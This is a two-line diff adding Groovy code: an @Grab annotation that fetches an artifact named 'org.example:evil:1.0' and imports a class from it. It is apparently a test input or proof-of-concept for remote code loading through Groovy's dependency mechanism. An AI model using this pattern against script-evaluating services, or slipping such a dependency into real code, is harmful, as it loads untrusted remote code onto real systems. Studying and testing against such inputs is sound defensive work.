@@ -1,0 +1,2 @@
+@Grab('org.example:evil:1.0')
+import org.example.Evil
